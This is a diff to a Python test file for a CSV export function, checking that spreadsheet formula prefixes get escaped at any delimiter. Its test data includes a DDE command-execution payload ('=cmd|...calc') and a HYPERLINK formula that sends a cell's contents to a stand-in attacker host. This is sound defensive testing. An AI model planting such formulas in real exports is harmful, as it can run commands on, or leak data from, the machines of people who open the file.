@@ -1,10 +1,11 @@
-"""An export runs nothing in the spreadsheet that opens it, wherever that lets cells begin."""
+"""A spreadsheet that opens an export runs nothing in it, wherever a cell begins."""
 
 import csv
+import io
 
 import pytest
 
-from core.spreadsheets import csv_lines, safe_cell
+from core.spreadsheets import csv_lines
 
 
 @pytest.mark.parametrize(
@@ -12,12 +13,15 @@ from core.spreadsheets import csv_lines, safe_cell
     [
         (None, ""),
         (7, "7"),
+        (-7, "-7"),
+        ("-7.5", "-7.5"),
         ("Nightly jobs; the old ones", "Nightly jobs; the old ones"),
         ("a=b, c+d, e-f, g@h", "a=b, c+d, e-f, g@h"),
         ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
         (" =HYPERLINK(1)", " '=HYPERLINK(1)"),
         ("+1", "'+1"),
-        ("-1", "'-1"),
+        ("-1+1", "'-1+1"),
+        ("=cmd|'/C calc'!A0", "'=cmd\\|'/C calc'!A0"),
         ("@SUM(1)", "'@SUM(1)"),
         ("\t=1", "'\t'=1"),
         ("\r=1", "'\r'=1"),
@@ -29,11 +33,14 @@ from core.spreadsheets import csv_lines, safe_cell
     ],
 )
 def test_no_cell_is_a_formula(value: object, cell: str) -> None:
-    assert safe_cell(value) == cell
+    [_heading, [written]] = csv.reader(
+        io.StringIO("".join(csv_lines(["x"], [[value]])), newline="")
+    )
+    assert written == cell
 
 
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
-def test_whatever_a_file_is_taken_apart_at(delimiter: str) -> None:
+def test_no_cell_is_a_formula_at_any_separator(delimiter: str) -> None:
     label = 'Jobs;=HYPERLINK("http://evil.example/?"&A1)\t=1'
     for row in csv.reader(csv_lines(["id", "label"], [["1", label]]), delimiter=delimiter):
         assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in row)
